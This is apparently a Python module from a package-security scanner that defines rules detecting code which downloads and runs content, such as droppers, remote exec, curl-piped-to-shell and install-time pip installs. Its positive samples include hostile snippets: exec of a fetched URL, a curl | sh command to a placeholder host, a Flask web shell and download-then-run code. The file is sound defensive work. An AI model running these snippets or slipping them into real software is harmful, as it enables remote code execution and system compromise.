"""download-execute.*: code fetched from the network and run."""

from __future__ import annotations

from pipwarden.findings import Severity
from pipwarden.rules import Where
from pipwarden.scan.facts import Event, Fact, Hit, ScopeFacts
from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, negative, positive, rule
from pipwarden.scan.rules._samples import URL

_FIX = "Do not install; report the project."


def downloaded_then_run(s: ScopeFacts) -> Hit | None:
    """One function downloads a file and runs a process or code."""
    ev = s.events
    if Event.DOWNLOAD_FILE not in ev or not (Event.PROCESS in ev or Event.EXEC in ev):
        return None
    # Tools do fetch and run helpers on request (torch fetches flamegraph.pl); doing so on
    # import, install or start is what droppers do.
    on_load = s.runs_on_load or s.setup or s.startup
    # A downloaded program (an .exe, code from a paste site) or a hidden start is a
    # dropper wherever it runs; fetching a helper tool and running it is not.
    strong = (
        Event.DOWNLOAD_PROGRAM in ev
        or Event.HIDDEN_START in ev
        # The downloaded file started itself, its digest unchecked: installers of release
        # binaries check a hash, droppers do not.
        or (Event.RUN_DOWNLOADED in ev and Event.HASH_CHECK not in ev)
    )
    return Hit(
        ev[Event.DOWNLOAD_FILE],
        "downloads a file and runs a process in the same function"
        + (
            " (a downloaded program, the downloaded file itself, or started hidden)"
            if strong and not on_load
            else ""
        ),
        drop_and_run_severity(on_load, strong),
    )


def unpacked_then_run(s: ScopeFacts) -> Hit | None:
    """One function writes out an executable decoded from the package and runs something:
    no package does that."""
    ev = s.events
    if (Event.DROP_NATIVE in ev or (Event.WRITE_DECODED in ev and Event.CHMOD in ev)) and (
        Event.PROCESS in ev or Event.EXEC in ev
    ):
        return Hit(
            ev.get(Event.DROP_NATIVE) or ev[Event.WRITE_DECODED],
            "writes an executable decoded from the package and runs it",
            drop_and_run_severity(s.runs_on_load or s.setup, strong=True),
        )
    return None


RULES = [
    rule(
        "download-execute.remote-code",
        CRITICAL,
        "CWE-494",
        "Downloaded data is executed",
        "A network response reaches exec/eval/compile.",
        _FIX,
        samples=(
            positive(f"from urllib.request import urlopen\nexec(urlopen({URL!r}).read())\n"),
            negative(
                f"import json\nfrom urllib.request import urlopen\ndata = json.loads(urlopen({URL!r}).read())\n"
            ),
        ),
        when=(Fact.NET_DATA_EXECUTED,),
    ),
    rule(
        "download-execute.remote-command",
        CRITICAL,
        "CWE-494",
        "Downloaded data runs as a command",
        "A network response reaches a process, or a command pipes a download into a shell.",
        _FIX,
        samples=(
            positive("import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"),
            # A web route that runs what its client sends: a web shell.
            positive(
                "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n"
                "@app.route('/q')\ndef q():\n"
                "    return subprocess.check_output(request.args.get('q'), shell=True)\n"
            ),
            negative("import os\nos.system('git status')\n"),
            negative(
                "import subprocess\nfrom flask import request\ndef q():\n"
                "    return subprocess.check_output(['git', 'log', request.args.get('rev', 'HEAD')])\n"
            ),
        ),
        when=(Fact.REMOTE_COMMAND, Fact.PIPE_TO_SHELL_TEXT),
    ),
    rule(
        "download-execute.drop-and-run",
        CRITICAL,
        "CWE-494",
        "Download written to disk and run",
        "One function downloads a file and starts a process or opens it (high even where "
        "only the user calls it when the process is the downloaded file itself, unchecked "
        "by any digest, or a downloaded program or a hidden start).",
        _FIX,
        # Anywhere in a file that runs at install time: what droppers do.
        severity_in={Where.INSTALL: CRITICAL},
        whole_file=True,
        samples=(
            positive(
                "import os, urllib.request\ndef go():\n"
                f"    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n    os.system('/tmp/x')\n"
            ),
            positive(
                "import os, tempfile, requests\ndef go(url):\n"
                "    p = os.path.join(tempfile.gettempdir(), 'u.exe')\n"
                "    with open(p, 'wb') as f:\n        f.write(requests.get(url).content)\n"
                "    os.startfile(p)\n"
            ),
            negative(
                f"import urllib.request\ndef go():\n    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n"
            ),
        ),
        per_scope=(downloaded_then_run, unpacked_then_run),
    ),
    rule(
        "download-execute.runtime-install",
        HIGH,
        "CWE-494",
        "Installs packages when imported",
        "Import-time or setup.py code runs pip install: code nobody vetted is fetched and "
        "built outside the resolver (critical when it comes from a URL or a VCS).",
        "Declare dependencies in the package metadata instead; do not install meanwhile.",
        samples=(
            positive(
                "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', "
                "'git+https://git.example.invalid/x.git'])\n",
                "pkg/__init__.py",
            ),
            negative(
                "import subprocess, sys\ndef install_extra(name):\n"
                "    subprocess.call([sys.executable, '-m', 'pip', 'install', name])\n",
                "pkg/__init__.py",
            ),
        ),
        when=(Fact.RUNTIME_INSTALL,),
        severity_of=lambda o: runtime_install_severity(o.remote, o.declared),
    ),
    rule(
        "download-execute.direct-url-dependency",
        HIGH,
        "CWE-494",
        "Dependency fetched from a URL",
        "The package metadata or build configuration requires another project from a URL "
        "(name @ https://..., git+https://...): pip fetches and builds it outside the index.",
        "Depend on index releases; do not install until the URL is explained.",
        samples=(
            positive(
                '[project]\nname = "x"\ndependencies = ["helper @ https://files.example.invalid/h.tar.gz"]\n',
                "x-1/pyproject.toml",
                "sdist",
            ),
            negative(
                '[project]\nname = "x"\ndependencies = ["helper>=1", "other[extra]; python_version<\'3.12\'"]\n',
                "x-1/pyproject.toml",
                "sdist",
            ),
        ),
        when=(Fact.URL_DEPENDENCY,),
    ),
]


def drop_and_run_severity(on_load: bool, strong: bool) -> Severity:
    """drop-and-run: critical on install, import or start-up; elsewhere high for a
    downloaded program, the downloaded file started itself with no digest checked, an
    executable unpacked from the package or a hidden start, and medium for a helper tool
    fetched and run on request."""
    return CRITICAL if on_load else HIGH if strong else MEDIUM


def runtime_install_severity(remote: bool, declared: bool) -> Severity:
    """runtime-install: critical for a URL, medium for the project's own requirement file,
    else high."""
    return CRITICAL if remote else MEDIUM if declared else HIGH
